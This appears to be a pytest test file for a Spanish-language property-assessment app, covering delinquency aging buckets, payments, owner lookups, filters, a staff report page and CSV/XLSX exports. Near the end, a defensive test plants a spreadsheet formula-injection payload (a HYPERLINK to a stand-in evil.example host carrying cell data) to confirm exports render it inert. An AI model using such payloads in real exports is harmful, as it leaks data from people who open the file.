"""Delinquency aging (assessments.ledger.aging): bucket boundaries, as-of dates, sums to the cent,
fund and district filters, and the owners of record on the as-of day."""
from datetime import date, timedelta
from decimal import Decimal

import pytest

from assessments.ledger import aging
from assessments.ledger.services import account_for_parcel, batch_open, payment_record, receivable_create
from assessments.models import Fund
from districts.models import Ownership
from tests import factories

D = Decimal
AS_OF = date(2026, 11, 1)
pytestmark = pytest.mark.django_db


@pytest.mark.parametrize(("days", "bucket"), [
    (-1, None), (0, "0-60"), (60, "0-60"), (61, "61-120"), (120, "61-120"), (121, "121-180"), (180, "121-180"),
    (181, "181-365"), (365, "181-365"), (366, ">365"), (4000, ">365"),
])
def test_bucket_for_boundaries(days, bucket):
    assert aging.bucket_for(days) == bucket


def test_bucket_keys_are_stable():
    assert aging.BUCKET_KEYS == ("0-60", "61-120", "121-180", "181-365", ">365")


@pytest.fixture
def setup(staff_user):
    office = factories.office()
    funds = {"irr": Fund.objects.create(code="riego", name="Fondo de riego", lien_kind="IRRIGATION"),
             "fra": Fund.objects.create(code="franquicias", name="Fondo especial de franquicias")}
    p1 = factories.parcel(cadastre="371-045-123-01")
    p2 = factories.parcel(cadastre="371-045-123-02")
    ana = factories.person(given="Ana", first="Colón", second="")
    old = factories.person(given="Pedro", first="Vega", second="")
    factories.own(p1, ana)
    Ownership.objects.create(parcel=p2, party=old, start_date=date(2000, 1, 1), end_date=date(2026, 6, 1))
    factories.own(p2, ana, start=date(2026, 6, 1))
    accounts = {1: account_for_parcel(p1), 2: account_for_parcel(p2)}
    n = {"i": 0}

    def charge(acct, due, amount, fund="irr"):
        n["i"] += 1
        return receivable_create(account=accounts[acct], fund=funds[fund], office=office, kind="ROLL_LINE",
                                 source_type="test", source_id=f"c{n['i']}", installments=[(due, D(amount))],
                                 description=f"Cargo {n['i']}", issued_on=min(due, AS_OF - timedelta(days=400)),
                                 actor=staff_user)
    return {"charge": charge, "accounts": accounts, "p1": p1, "p2": p2}


def ago(days):
    return AS_OF - timedelta(days=days)


def test_summary_buckets_at_each_boundary(setup):
    c = setup["charge"]
    for days, amount in ((0, "1.00"), (60, "2.00"), (61, "4.00"), (120, "8.00"), (121, "16.00"), (180, "32.00"),
                         (181, "64.00"), (365, "128.00"), (366, "256.01")):
        c(1, ago(days), amount)
    c(1, ago(-1), "999.99")     # due tomorrow: not past due
    assert aging.aging_summary(as_of=AS_OF) == {
        "0-60": D("3.00"), "61-120": D("12.00"), "121-180": D("48.00"), "181-365": D("192.00"), ">365": D("256.01")}
    # A day later every boundary installment moves up one bucket, and the one due "tomorrow" enters.
    assert aging.aging_summary(as_of=AS_OF + timedelta(days=1)) == {
        "0-60": D("1000.99"), "61-120": D("6.00"), "121-180": D("24.00"), "181-365": D("96.00"), ">365": D("384.01")}


def test_payments_count_only_from_their_effective_date(setup, make_user):
    c = setup["charge"]
    c(1, ago(100), "100.00")
    cashier = make_user("caja", "cashier")
    batch = batch_open(cashier=cashier, business_date=AS_OF + timedelta(days=10), actor=cashier)
    payment_record(account=setup["accounts"][1], amount=D("30.05"), method="CASH", paid_on=AS_OF + timedelta(days=10),
                   payer="Ana", idempotency_key="p1", batch=batch, actor=cashier)
    assert aging.aging_summary(as_of=AS_OF)["61-120"] == D("100.00")
    later = AS_OF + timedelta(days=10)
    assert aging.aging_summary(as_of=later)["61-120"] == D("69.95")
    rows = aging.delinquent_accounts(as_of=later)
    assert [(r.cadastre, r.total, r.buckets["61-120"]) for r in rows] == [("371-045-123-01", D("69.95"), D("69.95"))]


def test_delinquent_accounts_rows_sum_to_the_summary(setup):
    c = setup["charge"]
    c(1, ago(10), "10.10")
    c(1, ago(400), "20.20")
    c(2, ago(70), "50.55")
    c(2, ago(200), "0.01")
    c(2, ago(-30), "77.00")     # not yet due
    rows = aging.delinquent_accounts(as_of=AS_OF)
    assert [(r.cadastre, r.total, r.oldest_due, r.installments) for r in rows] == [
        ("371-045-123-02", D("50.56"), ago(200), 2), ("371-045-123-01", D("30.30"), ago(400), 2)]
    assert rows[0].buckets == {"0-60": D("0.00"), "61-120": D("50.55"), "121-180": D("0.00"),
                               "181-365": D("0.01"), ">365": D("0.00")}
    summary = aging.aging_summary(as_of=AS_OF)
    for key in aging.BUCKET_KEYS:
        assert sum((r.buckets[key] for r in rows), D("0.00")) == summary[key]
    assert aging.summary_total(summary) == D("80.86")


def test_owners_of_record_on_the_as_of_day(setup):
    c = setup["charge"]
    c(2, ago(10), "5.00")
    c(2, date(2026, 1, 1), "5.00")
    [row] = aging.delinquent_accounts(as_of=AS_OF)
    assert row.owners == ("Ana Colón",)
    [row] = aging.delinquent_accounts(as_of=date(2026, 3, 1))
    assert row.owners == ("Pedro Vega",)


def test_fund_filter_and_limit(setup):
    c = setup["charge"]
    c(1, ago(10), "10.00")
    c(2, ago(10), "7.00", fund="fra")
    assert aging.aging_summary(as_of=AS_OF, fund_code="franquicias")["0-60"] == D("7.00")
    assert aging.aging_summary(as_of=AS_OF, fund_code="riego")["0-60"] == D("10.00")
    assert aging.aging_summary(as_of=AS_OF, fund_code="nada") == aging.empty_buckets()
    assert [r.total for r in aging.delinquent_accounts(as_of=AS_OF, limit=1)] == [D("10.00")]


def test_district_filter_reads_the_district_rolls(setup, staff_user):
    from assessments.rolls.models import CertifiedFigures, Roll

    district = factories.district()
    other = factories.district(code="riego-norte", name="Distrito Norte")
    figures = CertifiedFigures.objects.create(district=district, fiscal_year=2026, figures={}, certified_by="x",
                                              certified_on=date(2025, 5, 1))
    roll = Roll.objects.create(district=district, fiscal_year=2026, figures=figures)
    office = factories.office(name="Otra")
    fund = Fund.objects.get(code="riego")
    receivable_create(account=setup["accounts"][1], fund=fund, office=office, kind="ROLL_LINE",
                      source_type=f"rolls.Roll:{roll.pk}", source_id="371-045-123-01",
                      installments=[(date(2026, 1, 1), D("12.34"))], description="Cuota", issued_on=date(2025, 6, 1),
                      actor=staff_user)
    setup["charge"](2, ago(10), "99.00")
    assert aging.aging_summary(as_of=AS_OF, district_id=district.pk)["181-365"] == D("12.34")
    assert aging.summary_total(aging.aging_summary(as_of=AS_OF, district_id=district.pk)) == D("12.34")
    assert aging.aging_summary(as_of=AS_OF, district_id=other.pk) == aging.empty_buckets()
    assert [r.cadastre for r in aging.delinquent_accounts(as_of=AS_OF, district_id=district.pk)] == ["371-045-123-01"]


# --- the staff page /padrones/morosidad/ ----------------------------------------------------------

@pytest.fixture
def billed_roll(irrigation_figures, staff_user):
    from assessments.rolls import services

    roll = services.roll_generate(district_code="riego-sur", fiscal_year=2027, actor=staff_user).roll
    services.roll_certify(roll=roll, actor=staff_user, on=date(2026, 6, 1))
    return roll


def test_page_totals_chart_rows_and_irr12(billed_roll, staff_client):
    from django.urls import reverse

    as_of = date(2027, 3, 1)
    summary = aging.aging_summary(as_of=as_of, district_id=billed_roll.district_id)
    rows = aging.delinquent_accounts(as_of=as_of, district_id=billed_roll.district_id)
    assert rows and aging.summary_total(summary) == sum((r.total for r in rows), D("0.00"))
    response = staff_client.get(reverse("rolls:aging"), {"district": "riego-sur", "as_of": "2027-03-01"})
    assert response.status_code == 200
    page = response.content.decode()
    assert "<svg" in page and "<rect" in page
    assert f"${aging.summary_total(summary):,.2f}" in page
    top = rows[0]
    seizure = reverse("liens:seizure", args=[top.parcel_id])
    assert f"{seizure}?amount_owed={top.total}&amp;proposed_value=" in page
    assert f"${2 * top.total:,.2f}" in page     # IRR-12: 2 × owed


def test_page_without_irrigation_district_has_no_irr12_column(billed_roll, staff_client):
    page = staff_client.get("/padrones/morosidad/", {"as_of": "2027-03-01"}).content.decode()
    assert "Verificar embargo" not in page and "Cuentas morosas" in page


def test_exports_csv_and_xlsx_add_up(billed_roll, staff_client):
    import csv
    import io

    from openpyxl import load_workbook

    params = {"district": "riego-sur", "as_of": "2027-03-01"}
    response = staff_client.get("/padrones/morosidad/", {**params, "format": "csv"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    lines = list(csv.reader(io.StringIO(response.content.decode())))
    assert lines[0][:2] == ["catastro_o_titular", "duenos"] and lines[0][-2] == "irr12_maximo_embargable"
    summary = aging.aging_summary(as_of=date(2027, 3, 1), district_id=billed_roll.district_id)
    assert lines[-1][0] == "Total" and D(lines[-1][7]) == aging.summary_total(summary)
    assert sum(D(r[7]) for r in lines[1:-1]) == aging.summary_total(summary)
    response = staff_client.get("/padrones/morosidad/", {**params, "format": "xlsx"})
    assert response.status_code == 200
    ws = load_workbook(io.BytesIO(response.content)).active
    assert ws.max_row == len(lines)


def test_bad_filter_names_the_field(billed_roll, staff_client):
    response = staff_client.get("/padrones/morosidad/", {"as_of": "2027-02-30", "format": "csv"})
    assert response.status_code == 400
    assert "Al día" in response.content.decode()
    response = staff_client.get("/padrones/morosidad/", {"district": "no-existe"})
    assert response.status_code == 200
    assert '<ul class="errorlist"><li>Distrito: ' in response.content.decode()


@pytest.mark.parametrize("fmt", ["", "csv"])
def test_page_access(billed_roll, client, auditor_user, owner_user, fmt):
    from django.urls import reverse

    url = reverse("rolls:aging") + (f"?format={fmt}" if fmt else "")
    response = client.get(url)
    assert response.status_code == 302 and response.url.startswith(reverse("login"))
    client.force_login(owner_user)
    response = client.get(url)
    assert response.status_code == 302 and response.url == reverse("portal:home")
    client.force_login(auditor_user)     # auditors read collections
    assert client.get(url).status_code == 200


def test_plain_user_without_role_is_refused(db, make_user, client):
    client.force_login(make_user("sin.rol"))
    assert client.get("/padrones/morosidad/").status_code == 403


def test_pages_come_from_sql_in_the_same_order(setup):
    c = setup["charge"]
    c(1, ago(10), "10.00")
    c(2, ago(10), "10.00")      # same total: the lower account number first
    c(2, ago(400), "0.01")
    everything = aging.delinquent_accounts(as_of=AS_OF)
    assert [r.account_id for r in everything] == [setup["accounts"][2].pk, setup["accounts"][1].pk]
    rows = aging.DelinquentRows(as_of=AS_OF)
    assert rows.count() == len(rows) == 2
    assert rows[1:2] == everything[1:2] and rows[0:1] == everything[0:1]
    assert aging.delinquent_count(as_of=AS_OF, fund_code="franquicias") == 0


EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Pagar aquí")'


def test_exports_never_carry_a_live_formula(billed_roll, staff_client):
    """A party named like a formula reaches the delinquency CSV and XLSX as inert text."""
    import csv
    import io

    from openpyxl import load_workbook

    from assessments.rolls.models import RollLine

    for line in RollLine.objects.filter(roll=billed_roll).select_related("parcel")[:3]:
        factories.own(line.parcel, factories.person(given=EVIL, first=EVIL, second=""))
    params = {"district": "riego-sur", "as_of": "2027-03-01"}
    text = staff_client.get("/padrones/morosidad/", {**params, "format": "csv"}).content.decode()
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert any("HYPERLINK" in c for c in cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    xlsx = staff_client.get("/padrones/morosidad/", {**params, "format": "xlsx"}).content
    ws = load_workbook(io.BytesIO(xlsx)).active
    xcells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert any("HYPERLINK" in str(c.value) for c in xcells)
    assert not [c.coordinate for c in xcells if c.data_type == "f" or str(c.value).startswith("=")]
